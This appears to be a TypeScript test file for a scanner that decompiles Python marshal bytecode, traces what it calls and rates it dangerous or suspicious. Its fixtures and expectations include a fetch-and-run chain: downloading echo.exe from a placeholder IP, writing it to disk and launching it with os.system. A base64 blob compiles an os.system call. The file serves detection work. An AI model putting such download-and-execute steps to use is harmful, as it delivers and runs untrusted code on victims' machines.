/** What compiled code is told to do: by every version of Python the same, from bytes that CPython wrote and that are never loaded. */

import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { describe, expect, test } from 'vitest';
import { budgetOf, LIMITS } from '../../../src/scan/context.ts';
import { OPCODES } from '../../../src/scan/marshal/opcodes.ts';
import { storyOf } from '../../../src/scan/marshal/story.ts';
import { ofKind, scanBytes } from '../build/scanned.ts';

const FOLDER = join(import.meta.dirname, '../../../fixtures/scan/marshal');
const layer = (python: string) => readFileSync(join(FOLDER, `story-${python}.marshal`));
const tell = (bytes: Uint8Array) => storyOf(bytes, budgetOf(LIMITS));

/** `marshal.dumps(compile("import os; os.system('echo namesake')", '', 'exec'))`, by Python 3.11. */
const ECHO = Buffer.from(
  'YwAAAAAAAAAAAAAAAAMAAAAAAAAA8y4AAACXAGQAZAFsAFoAAgBlAGoBAAAAAAAAAABkAqYBAACrAQAAAAAAAAAAAQBkAVMAKQPpAAAAAE56DWVjaG8gbmFtZXNha2UpAtoCb3PaBnN5c3RlbakA8wAAAADaAPoIPG1vZHVsZT5yBwAAAAEAAABzJQAAAPADAQEB2AAJgAmACYAJiDmIMow5kF/RCyXUCyXQCyXQCyXQCyVyBQAAAA==',
  'base64',
);

describe.each(OPCODES)('a layer that fetches a program and runs it, compiled by Python $python', ({ python }) => {
  test('is told as what it reaches, what it downloads, and what it runs, in this order', () => {
    const story = tell(layer(python));
    expect(story?.rating).toBe('dangerous');
    expect(story?.gaps).toEqual([]);
    const steps = story?.steps.map(({ text }) => text.replace('__builtin__', 'builtins')) ?? [];
    expect(steps.filter((text) => !text.includes('.write('))).toEqual([
      "requests.get('http://198.51.100.7/ping', timeout=3)",
      "requests.get('http://198.51.100.7/echo.exe')",
      "builtins.open('echo.exe', 'wb')",
      "os.system('start echo.exe harmless')",
    ]);
    expect(story?.details).toContain('   address: http://198.51.100.7/echo.exe');
    expect(story?.details).toContain('decodes to: start echo.exe harmless');
  });

  test("shows the author's file, and the version or the two that it may be", () => {
    const story = tell(layer(python));
    expect(story).toMatchObject({ file: 'C:\\Users\\author\\layer.py', line: 2 });
    expect(story?.python.split(' or ')).toContain(python);
    expect(story?.python.split(' or ').length).toBeLessThanOrEqual(2);
  });
});

test('code whose opcodes fit no version is told by its names, and is dangerous by those', () => {
  const story = tell(
    Buffer.from(
      ECHO.toString('latin1').replace('\x97\0d\0d\x01l\0Z\0', '\x97\0\xff\x01\xff\x01\xff\x01\xff\x01'),
      'latin1',
    ),
  );
  expect(story?.rating).toBe('dangerous');
  expect(story?.details.join('\n')).toContain('os');
});

test('a number of arguments that no function has costs nothing', () => {
  const bytes = Buffer.from(ECHO);
  bytes.writeInt32LE(0x7fffffff, 1);
  expect(tell(bytes)?.rating).toBe('dangerous');
});

test('bytes behind the code are told', () => {
  expect(tell(Buffer.concat([ECHO, Buffer.from('more')]))?.gaps).toEqual([
    '4 bytes behind the code, which Python does not read',
  ]);
});

test.each([
  ['cut off', ECHO.subarray(0, 60)],
  ['a list that is longer than the bytes', Buffer.from('c\0\0\0\0(\xff\xff\xff\x7f', 'latin1')],
  [
    'tuples within tuples without an end',
    Buffer.concat([ECHO.subarray(0, 21), Buffer.from(')\x01'.repeat(100_000), 'latin1')]),
  ],
  ['a reference to nothing', Buffer.from(ECHO.toString('latin1').replace('r\x07\0\0\0', 'r\xff\0\0\0'), 'latin1')],
  ['a negative length', Buffer.from(ECHO.toString('latin1').replace('s%\0\0\0', 's\xff\xff\xff\xff'), 'latin1')],
])('what is no code is none: %s', (_, bytes) => {
  expect(tell(bytes)).toBeNull();
});

test('a compiled module is told with its version, its file and what it calls', async () => {
  const header = Buffer.alloc(16);
  header.writeUInt16LE(3495, 0);
  header.write('\r\n', 2);
  const scan = await scanBytes(Buffer.concat([header, ECHO]), 'helper.cpython-311.pyc');
  expect(scan).toMatchObject({ format: 'compiled Python module (3.11)', verdict: 'suspicious', inconclusive: [] });
  expect(ofKind(scan, 'compiled-module')[0]?.details).toContain(
    "1. os.system('echo namesake'): runs programs or reaches the operating system",
  );
});

test('a compiled module that breaks is not understood', async () => {
  const header = Buffer.alloc(16);
  header.writeUInt16LE(3495, 0);
  header.write('\r\n', 2);
  expect((await scanBytes(Buffer.concat([header, ECHO.subarray(0, 50)]), 'a.pyc')).verdict).toBe('inconclusive');
});
